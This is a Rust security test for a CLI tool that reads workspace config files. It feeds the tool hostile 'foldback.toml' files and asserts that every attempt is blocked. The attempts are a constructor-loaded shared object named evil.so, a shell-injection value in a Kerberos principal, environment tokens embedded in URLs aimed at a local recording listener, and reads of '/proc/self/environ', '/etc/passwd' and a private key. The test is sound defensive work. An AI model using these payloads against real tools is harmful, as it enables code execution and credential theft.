@@ -1,0 +1,181 @@
+//! A foreign folder: what its `foldback.toml` and its scripts may do to whoever asks a question in it.
+//!
+//! Promises: no native code runs, no value of the environment leaves, no file outside is read. A broker that records
+//! everything listens; a shared object and commands would leave marks.
+//! Does not know: clusters that answer.
+
+mod support;
+
+use std::io::Read as _;
+use std::net::{Shutdown, TcpListener};
+use std::path::Path;
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::Duration;
+
+use support::cli::command;
+use support::node::{Folder, free_port};
+
+/// A value of the environment that must not leave.
+const SECRET: &str = "s3cr3t-of-the-environment";
+
+/// The words of a file outside that must not be read.
+const OUTSIDE: &str = "w0rds-of-a-file-outside";
+
+/// A port that takes connections, records what arrives and ends them.
+struct Listener {
+    /// Its port.
+    port: u16,
+    /// Everything that arrived.
+    arrived: Arc<Mutex<Vec<u8>>>,
+}
+
+impl Listener {
+    /// Listens.
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
+        let port = listener.local_addr().expect("an address").port();
+        let arrived = Arc::new(Mutex::new(Vec::new()));
+        let kept = Arc::clone(&arrived);
+        let serve = move || {
+            for stream in listener.incoming() {
+                let mut stream = stream.expect("a connection");
+                let waits = stream.set_read_timeout(Some(Duration::from_millis(200)));
+                waits.expect("a time limit");
+                let mut bytes = [0; 4096];
+                if let Ok(length) = stream.read(&mut bytes) {
+                    kept.lock().expect("the bytes").extend_from_slice(&bytes[..length]);
+                }
+                drop(stream.shutdown(Shutdown::Both));
+            }
+        };
+        thread::Builder::new().name("listener".to_owned()).spawn(serve).expect("a thread");
+        Self { port, arrived }
+    }
+
+    /// Whether these words arrived.
+    fn heard(&self, words: &str) -> bool {
+        let arrived = self.arrived.lock().expect("the bytes");
+        arrived.windows(words.len()).any(|window| window == words.as_bytes())
+    }
+}
+
+/// Builds a shared object that leaves a mark as soon as it is loaded. `None` where there is no compiler.
+fn marking_library(folder: &Path, mark: &Path) -> Option<()> {
+    let source = format!(
+        "#include <stdio.h>\n__attribute__((constructor)) static void mark(void) {{ fclose(fopen(\"{}\", \"w\")); }}\n\
+         int conf_init(void *a, void **b, char *c, int d) {{ return 0; }}\n\
+         int bind_engine(void *a, const char *b, const void *c) {{ return 1; }}\n",
+        mark.display()
+    );
+    fs_err::write(folder.join("evil.c"), source).expect("the source");
+    let built = Command::new("cc")
+        .args(["-shared", "-fPIC", "-o"])
+        .arg(folder.join("evil.so"))
+        .arg(folder.join("evil.c"))
+        .status();
+    built.ok().filter(|status| status.success()).map(drop)
+}
+
+#[test]
+fn a_hostile_workspace_runs_no_code_gets_no_variable_and_reads_no_file_outside() {
+    let outside = Folder::new();
+    let place = Folder::new();
+    let folder = place.path().join("foreign/deep");
+    fs_err::create_dir_all(&folder).expect("a folder");
+    let mark = outside.path().join("mark");
+    let has_library = marking_library(&folder, &mark).is_some();
+    assert!(has_library || cfg!(windows), "a compiler builds the shared object");
+    let key = outside.path().join("id_ed25519");
+    fs_err::write(&key, OUTSIDE).expect("a file outside");
+    #[cfg(unix)]
+    std::os::unix::fs::symlink(&key, folder.join("link.js")).expect("a link");
+    let listener = Listener::start();
+    let evil = folder.join("evil.so").display().to_string();
+    let key = key.display().to_string();
+    let touch = format!("touch {}", mark.display());
+    let broker = format!("127.0.0.1:{}", listener.port);
+    let connection = |lines: &str| format!("[connection.dev]\nbrokers = \"{broker}\"\n{lines}\n");
+    let property = |name: &str, value: &str| {
+        connection(&format!("[connection.dev.properties]\n\"{name}\" = {value:?}"))
+    };
+    let with_mark = [
+        property("ssl.engine.location", &evil),
+        property("ssl.providers", &evil),
+        property("plugin.library.paths", &evil),
+        property("sasl.kerberos.kinit.cmd", &touch),
+        property("sasl.kerberos.principal", &format!("a; {touch} #")),
+        property("offset.store.path", &mark.display().to_string()),
+    ];
+    let with_secret = [
+        property("client.id", "${SHOP_TOKEN}"),
+        property("client.rack", "${KAFKA_TOKEN}"),
+        property("sasl.username", "${SHOP_TOKEN}"),
+        property(
+            "sasl.oauthbearer.token.endpoint.url",
+            &format!("http://{broker}/${{KAFKA_TOKEN}}"),
+        ),
+        format!("[connection.dev]\nbrokers = \"${{KAFKA_TOKEN}}.{broker}\"\n"),
+        connection(&format!("registry = \"http://{broker}/${{KAFKA_TOKEN}}\"")),
+        property("ssl.ca.location", "/proc/self/environ"),
+    ];
+    let with_file = [
+        property("sasl.oauthbearer.assertion.file", &key),
+        property("ssl.certificate.location", &key),
+        property("ssl.key.location", "../../../../../../../../etc/passwd"),
+        connection(&format!("[entity.order]\ntopics = [\"t\"]\nfold = {{ code = {key:?} }}")),
+        connection("[entity.order]\ntopics = [\"t\"]\nfold = { code = \"link.js\" }"),
+        connection(&format!("[[upcast]]\ntype = \"A\"\nfrom = \"1\"\ncode = {key:?}")),
+    ];
+    for text in with_mark.iter().chain(&with_secret).chain(&with_file) {
+        fs_err::write(folder.join("foldback.toml"), text).expect("the workspace file");
+        let mut program = command(&folder, &["state", "k", "--topic", "t", "--fold", "last"]);
+        program.env("SHOP_TOKEN", SECRET).env("KAFKA_TOKEN", SECRET);
+        program.env("XDG_CONFIG_HOME", outside.path());
+        let ended = program.output().expect("the program starts");
+        let told = String::from_utf8_lossy(&ended.stderr).into_owned();
+        assert_eq!(ended.status.code(), Some(2), "{text}\n{told}");
+        assert!(told.contains("deep/foldback.toml:"), "{text}\n{told}");
+        assert!(!told.contains(SECRET) && !told.contains(OUTSIDE), "{text}\n{told}");
+        assert!(!mark.exists(), "code ran or a file was written:\n{text}");
+    }
+    assert!(!listener.heard(SECRET) && !listener.heard(OUTSIDE), "nothing leaves");
+
+    // Above a repository's root nothing is looked for.
+    fs_err::remove_file(folder.join("foldback.toml")).expect("no workspace file here");
+    fs_err::create_dir(folder.join(".git")).expect("a repository");
+    fs_err::write(place.path().join("foreign/foldback.toml"), &with_mark[0]).expect("one above");
+    let ended = command(&folder, &["topics"]).output().expect("the program starts");
+    let told = String::from_utf8_lossy(&ended.stderr).into_owned();
+    assert!(told.contains("no cluster is named"), "{told}");
+}
+
+#[test]
+fn a_variable_leaves_only_when_the_user_allows_it() {
+    let outside = Folder::new();
+    let folder = Folder::new();
+    let text = format!(
+        "[connection.dev]\nbrokers = \"127.0.0.1:{}\"\nproperties = {{ \"sasl.mechanism\" = \"PLAIN\", \
+         \"security.protocol\" = \"sasl_plaintext\", \"sasl.username\" = \"u\", \"sasl.password\" = \"${{SHOP_TOKEN}}\" }}\n",
+        free_port()
+    );
+    fs_err::write(folder.path().join("foldback.toml"), text).expect("the workspace file");
+    let run = |more: &[&str]| {
+        let mut program = command(folder.path(), &[&["topics"], more].concat());
+        program.env("SHOP_TOKEN", SECRET).env("XDG_CONFIG_HOME", outside.path());
+        let ended = program.output().expect("the program starts");
+        (ended.status.code(), String::from_utf8_lossy(&ended.stderr).into_owned())
+    };
+    let (status, told) = run(&[]);
+    assert!(status == Some(2) && told.contains("--allow-env SHOP_TOKEN"), "{told}");
+    let (status, told) = run(&["--allow-env", "SHOP_TOKEN"]);
+    assert_eq!(status, Some(3), "the settings are taken, nobody answers: {told}");
+    let settings = outside.path().join("foldback/settings.toml");
+    fs_err::create_dir_all(settings.parent().expect("a folder")).expect("the user's folder");
+    fs_err::write(&settings, "allow_env = [\"SHOP_TOKEN\"]\n").expect("the user's settings");
+    let (status, told) = run(&[]);
+    let expected = if cfg!(target_os = "linux") { Some(3) } else { Some(2) };
+    assert_eq!(status, expected, "{told}");
+    assert!(!told.contains(SECRET), "{told}");
+}
